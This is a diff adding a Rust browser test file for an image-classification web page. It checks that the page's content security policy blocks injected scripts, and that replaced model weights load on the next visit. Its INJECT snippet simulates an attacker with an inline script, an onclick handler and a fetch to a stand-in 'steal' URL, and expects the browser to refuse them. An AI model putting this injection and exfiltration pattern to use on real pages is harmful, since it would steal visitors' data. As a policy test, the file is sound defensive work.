@@ -1,0 +1,85 @@
+//! The page in operation: its content security policy, and models that are replaced while it is open.
+
+use crate::browser::with_browser;
+use crate::{SMALL_MODEL, rest_prediction};
+use anyhow::{Context, Result, ensure};
+use model::architecture::Architecture;
+use model::prediction::Prediction;
+use model::random;
+use serde_json::Value;
+use tests::agreement::assert_agreement;
+use tests::server::Server;
+use tests::workspace;
+
+const ADMIN_TOKEN: &str = "secret";
+
+/// Records what the browser refuses because of the policy.
+const RECORD_VIOLATIONS: &str = r#"
+    window.violations = [];
+    document.addEventListener("securitypolicyviolation", event =>
+        window.violations.push(`${event.violatedDirective}: ${event.blockedURI} at ${event.sourceFile}:${event.lineNumber} ${event.sample}`));
+"#;
+
+/// Injects code as an attacker would, and waits until the browser has reported the refusals, which takes a moment.
+const INJECT: &str = r#"
+    const [done] = arguments;
+    const script = document.createElement("script");
+    script.textContent = "window.injected = true";
+    document.body.append(script);
+    const button = document.createElement("button");
+    button.setAttribute("onclick", "window.injected = true");
+    button.click();
+    fetch("https://example.org/steal").catch(() => null);
+    const kinds = ["script-src-elem", "script-src-attr", "connect-src"];
+    const refused = () => kinds.every(kind => window.violations.some(violation => violation.startsWith(kind)));
+    const start = performance.now();
+    const poll = () => refused() || performance.now() - start > 5000
+        ? done([window.injected ?? false, window.violations, refused()])
+        : setTimeout(poll, 10);
+    poll();
+"#;
+
+pub fn runs_no_injected_code() -> Result<()> {
+    with_browser(&Server::start()?, |browser| async move {
+        browser.run_before_page_scripts(RECORD_VIOLATIONS).await?;
+        browser.open().await?;
+        browser.select_model(SMALL_MODEL).await?;
+        browser.wait_until("the small model", |view| view.class_labels.len() == 10 && !view.privacy.is_empty()).await?;
+        let view = browser.classify_sample("palace").await?;
+        ensure!(view.ran_in_page(), "{view:?}");
+        browser.press("explain").await?;
+        ensure!(browser.count("heatmap").await? == 1, "no heat map is shown");
+        let violations = browser.client.execute("return window.violations", vec![]).await?;
+        ensure!(violations == Value::Array(vec![]), "the page violates its own policy: {violations}");
+
+        let outcome = browser.client.execute_async(INJECT, vec![]).await?;
+        ensure!(outcome[0] == false && outcome[2] == true, "{outcome}");
+        Ok(())
+    })
+}
+
+pub fn loads_replaced_weights() -> Result<()> {
+    let folder = tempfile::tempdir()?;
+    let path = folder.path().join(format!("{SMALL_MODEL}.safetensors"));
+    std::fs::copy(workspace::root().join(format!("checkpoints/{SMALL_MODEL}.safetensors")), &path)?;
+    let models = folder.path().to_str().context("the path is not UTF-8")?;
+    let server = Server::start_with(["--models", models, "--admin-token", ADMIN_TOKEN])?;
+    with_browser(&server, |browser| async move {
+        browser.open().await?;
+        let old = browser.classify_sample("cat").await?;
+        ensure!(old.ran_in_page(), "{old:?}");
+
+        std::fs::write(&path, random::checkpoint(Architecture::new("resnet18", 10)?).to_bytes())?;
+        let load = format!("{}/v2/repository/models/{SMALL_MODEL}/load", browser.site);
+        reqwest::Client::new().post(load).bearer_auth(ADMIN_TOKEN).send().await?.error_for_status()?;
+
+        // An open page continues with the old weights; the next visit loads the new ones.
+        let unchanged = browser.classify_sample("palace").await?;
+        ensure!(unchanged.ran_in_page(), "{unchanged:?}");
+        browser.open().await?;
+        let new = browser.classify_sample("cat").await?;
+        let expected = rest_prediction(&browser, SMALL_MODEL, "cat").await?;
+        ensure!(new.ranked != old.ranked, "the page still uses the old weights");
+        assert_agreement(&Prediction { predictions: new.ranked, ..expected.clone() }, &expected)
+    })
+}
